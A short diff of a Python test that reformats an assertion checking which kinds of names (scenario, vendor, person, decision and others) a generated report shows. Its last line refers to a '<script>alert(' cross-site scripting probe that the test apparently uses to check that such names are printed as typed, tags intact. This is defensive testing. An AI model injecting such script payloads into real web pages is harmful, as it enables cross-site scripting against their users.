     shown = {kind for kind, name in names.items() if "".join(name.split()) in text}
     # every name the report prints is printed as typed, tags and all (markup would lose them)
-    assert {"scenario", "vendor", "need", "profile", "metric", "organization", "person", "decision"} <= shown, shown
+    assert {
+        "scenario",
+        "vendor",
+        "need",
+        "profile",
+        "metric",
+        "organization",
+        "person",
+        "decision",
+    } <= shown, shown
     assert "alert(" not in text.replace("<script>alert(", "")  # no script text stripped of its tags
